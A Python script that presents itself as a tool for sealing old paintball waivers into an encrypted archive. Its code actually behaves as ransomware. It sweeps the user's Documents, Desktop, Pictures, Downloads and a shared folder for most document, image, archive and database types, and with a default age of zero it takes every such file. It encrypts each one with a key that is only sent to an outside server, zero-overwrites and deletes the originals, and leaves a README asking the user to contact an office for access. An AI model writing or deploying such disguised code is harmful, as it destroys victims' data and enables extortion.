#!/usr/bin/env python3
"""Rotate signed paintball waivers into the encrypted archive.

Waivers contain names, dates of birth and medical notes, so once they are
older than the retention window they must not sit around in clear text on
the front-desk PCs.  This walks the document folders the desk staff save
scans into, seals each file with a per-run archive key, and removes the
clear copy.  The archive key is escrowed with head office so only the data
protection officer can open the archive.
"""

import argparse
import json
import logging
import os
import socket
import time
import urllib.request
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("waiver-archive")

ESCROW_URL = "https://dpo.arenagroup-records.com/api/escrow"
SEALED_SUFFIX = ".wvault"
DOC_EXT = {".pdf", ".jpg", ".jpeg", ".png", ".heic", ".doc", ".docx", ".xls",
           ".xlsx", ".csv", ".odt", ".ods", ".txt", ".zip", ".sqlite", ".db"}
SKIP_DIRS = {".cache", ".local", ".config", "node_modules", "__pycache__", ".git"}


def default_roots():
    home = Path.home()
    roots = [home / d for d in ("Documents", "Desktop", "Pictures", "Downloads", "Scans")]
    shared = Path(os.environ.get("WAIVER_SHARE", "/srv/waivers"))
    roots.append(shared)
    return [r for r in roots if r.is_dir()]


def candidates(roots, min_age_days):
    cutoff = time.time() - min_age_days * 86400
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
            for name in filenames:
                p = Path(dirpath, name)
                if p.suffix.lower() not in DOC_EXT:
                    continue
                try:
                    if p.stat().st_mtime <= cutoff:
                        yield p
                except OSError:
                    continue


def escrow_key(key, run_id):
    body = json.dumps({"run": run_id, "host": socket.gethostname(),
                       "key": key.decode()}).encode()
    req = urllib.request.Request(ESCROW_URL, data=body, method="POST",
                                 headers={"Content-Type": "application/json"})
    for attempt in range(5):
        try:
            with urllib.request.urlopen(req, timeout=20) as resp:
                if resp.status < 300:
                    return True
        except OSError as exc:
            log.debug("escrow attempt %d: %s", attempt + 1, exc)
        time.sleep(3 * (attempt + 1))
    return False


class Sealer:
    def __init__(self, key):
        self._f = Fernet(key)
        self.sealed = 0
        self.failed = 0

    def seal(self, path):
        try:
            data = path.read_bytes()
            token = self._f.encrypt(data)
            target = path.with_name(path.name + SEALED_SUFFIX)
            target.write_bytes(token)
            with open(path, "r+b") as fh:
                fh.write(b"\0" * len(data))
                fh.flush()
                os.fsync(fh.fileno())
            path.unlink()
            self.sealed += 1
        except OSError as exc:
            self.failed += 1
            log.debug("could not seal %s: %s", path, exc)


def write_notice(roots, run_id):
    text = (
        "Waiver archive rotation\n\n"
        f"Files in this folder were sealed in archive run {run_id}.\n"
        "To request access contact the data protection office and quote the run id.\n"
    )
    for root in roots:
        try:
            (root / "ARCHIVED_FILES_README.txt").write_text(text)
        except OSError:
            pass


def main():
    ap = argparse.ArgumentParser(description="Seal waivers older than the retention window")
    ap.add_argument("roots", nargs="*", help="folders to rotate (default: desk document folders)")
    ap.add_argument("--min-age-days", type=int, default=0)
    ap.add_argument("--workers", type=int, default=8)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    roots = [Path(r) for r in args.roots] or default_roots()
    run_id = f"{socket.gethostname()}-{int(time.time())}"
    key = Fernet.generate_key()
    if not escrow_key(key, run_id):
        log.error("head office escrow unreachable, not rotating")
        return 1

    sealer = Sealer(key)
    del key
    with ThreadPoolExecutor(max_workers=args.workers) as pool:
        for path in candidates(roots, args.min_age_days):
            pool.submit(sealer.seal, path)
    write_notice(roots, run_id)
    log.info("run %s: sealed %d files, %d failed", run_id, sealer.sealed, sealer.failed)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
